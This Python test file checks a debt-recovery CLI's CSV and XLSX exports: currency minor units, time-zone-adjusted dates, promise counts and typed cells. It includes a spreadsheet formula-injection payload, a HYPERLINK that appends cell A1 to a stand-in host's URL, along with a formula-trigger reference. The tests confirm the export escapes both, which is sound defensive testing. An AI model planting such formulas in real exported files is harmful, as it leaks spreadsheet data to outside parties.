"""The recovery sheet on SQLite and PostgreSQL: CSV parsed back, XLSX opened with openpyxl, exact values."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from arrears.cli.main import app
from arrears.export.recovery import COLUMNS, major

AT = datetime(2026, 11, 20, 3, 30, tzinfo=UTC)  # 22:30 the day before in New York
NOW = datetime(2026, 12, 2, 12, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _seed(sessions: sessionmaker[Session]) -> None:
    from arrears.store.models import Account, Case, Customer, Outcome, Promise

    records: list[object] = [
        Customer(
            id="cu1", source_system="erp", external_id="C-1", name="Zoë Müller", time_zone="America/New_York",
            owner="sam", created_at=AT, updated_at=AT,
        ),
        Customer(
            id="cu2", source_system="erp", external_id="-2+3", name=EVIL, time_zone="Asia/Tokyo",
            created_at=AT, updated_at=AT,
        ),
        Account(id="ac1", customer_id="cu1", source_system="erp", external_id="A-1", created_at=AT),
        Account(id="ac2", customer_id="cu2", source_system="erp", external_id="A-2", created_at=AT),
        Case(
            id="ca1", account_id="ac1", customer_id="cu1", strategy_name="b2b", strategy_version=1,
            currency="USD", balance_minor=70_005, opening_balance_minor=123_405, recovered_minor=53_400,
            oldest_due_on=date(2026, 11, 1), opened_at=AT, updated_at=AT,
        ),
        Case(
            id="ca2", account_id="ac2", customer_id="cu2", strategy_name="b2b", strategy_version=1,
            currency="JPY", balance_minor=0, opening_balance_minor=50_000, recovered_minor=50_000,
            oldest_due_on=date(2026, 11, 10), opened_at=AT + timedelta(minutes=1), updated_at=AT,
            status="closed", closed_at=datetime(2026, 11, 25, 16, 0, tzinfo=UTC),
        ),
        Promise(
            id="pr1", case_id="ca1", amount_minor=20_000, currency="USD", due_on=date(2026, 11, 25),
            channel="sms", status="broken", created_at=AT,
        ),
        Promise(
            id="pr2", case_id="ca1", amount_minor=53_400, currency="USD", due_on=date(2026, 11, 28),
            channel="sms", status="kept", created_at=AT + timedelta(days=2),
        ),
        Promise(
            id="pr3", case_id="ca1", amount_minor=10_000, currency="USD", due_on=date(2026, 12, 20),
            channel="sms", status="scheduled", created_at=AT + timedelta(days=2),
        ),
        Outcome(
            id="ou1", idempotency_key="k1", case_id="ca1", routing="escalated", created_at=AT,
        ),
        Outcome(
            id="ou2", idempotency_key="k2", case_id="ca1", routing="booked",
            created_at=AT + timedelta(days=2),
        ),
    ]  # fmt: skip
    with sessions() as session, session.begin():
        for record in records:
            session.add(record)
            session.flush()


def _export(database_url: str, path: Path, fmt: str) -> None:
    result = CliRunner().invoke(
        app, ["export", "recovery", "--format", fmt, "--out", str(path), "--database", database_url]
    )
    assert result.exit_code == 0, result.output
    assert "2 cases exported" in result.output


def test_major_units_follow_the_currency_exponent() -> None:
    assert major(123_405, "USD") == Decimal("1234.05")
    assert major(50_000, "JPY") == Decimal("50000")
    assert major(1_234, "BHD") == Decimal("1.234")
    assert major(-5, "EUR") == Decimal("-0.05")


def test_csv_imports_cleanly(database_url: str, sessions: sessionmaker[Session], tmp_path: Path) -> None:
    _seed(sessions)
    path = tmp_path / "recovery.csv"
    _export(database_url, path, "csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    first, second = csv.DictReader(raw.decode("utf-8-sig").splitlines())
    assert list(first) == list(COLUMNS)
    assert first["customer"] == "Zoë Müller" and first["owner"] == "sam"
    assert (first["currency"], first["amount_due_at_opening"], first["amount_recovered"]) == (
        "USD",
        "1234.05",
        "534.00",
    )
    assert first["balance_now"] == "700.05"
    assert (first["promises_made"], first["promises_kept"], first["promises_broken"]) == ("2", "1", "1")
    assert (first["latest_promise_date"], first["latest_promise_amount"]) in {
        ("2026-11-28", "534.00"),
        ("2026-12-20", "100.00"),
    }
    assert (first["last_outcome"], first["last_outcome_date"]) == ("booked", "2026-11-21")
    assert first["opened_on"] == "2026-11-19"  # 22:30 in New York
    assert first["status"] == "open" and first["closed_on"] == ""
    assert second["customer"] == "'" + EVIL and second["customer_ref"] == "'-2+3"
    assert (second["amount_due_at_opening"], second["balance_now"]) == ("50000", "0")
    assert second["closed_on"] == "2026-11-26"  # 01:00 in Tokyo
    assert second["days_overdue"] == "16"  # to the closing day


def test_xlsx_cells_are_typed(database_url: str, sessions: sessionmaker[Session], tmp_path: Path) -> None:
    _seed(sessions)
    path = tmp_path / "recovery.xlsx"
    _export(database_url, path, "xlsx")
    sheet = load_workbook(path)["recovery"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header == list(COLUMNS)
    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    second = {name: cell for name, cell in zip(header, sheet[3], strict=True)}
    opening = first["amount_due_at_opening"]
    assert (opening.value, opening.data_type, opening.number_format) == (1234.05, "n", "#,##0.00")
    assert first["promises_made"].value == 2 and first["days_overdue"].data_type == "n"
    opened = first["opened_on"]
    assert opened.is_date and opened.value == datetime(2026, 11, 19) and opened.number_format == "yyyy-mm-dd"
    yen = second["amount_due_at_opening"]
    assert (yen.value, yen.number_format) == (50000, "#,##0")
    evil = second["customer"]
    assert (evil.value, evil.data_type) == (EVIL, "s")  # text, never a formula
    assert second["currency"].value == "JPY" and second["closed_on"].value == datetime(2026, 11, 26)
    assert sheet.column_dimensions["A"].width == 34


def test_bad_format_names_the_option(database_url: str, tmp_path: Path) -> None:
    result = CliRunner().invoke(
        app,
        ["export", "recovery", "--format", "jsonl", "--out", str(tmp_path / "x"), "--database", database_url],
    )
    assert result.exit_code == 2 and "--format" in result.output
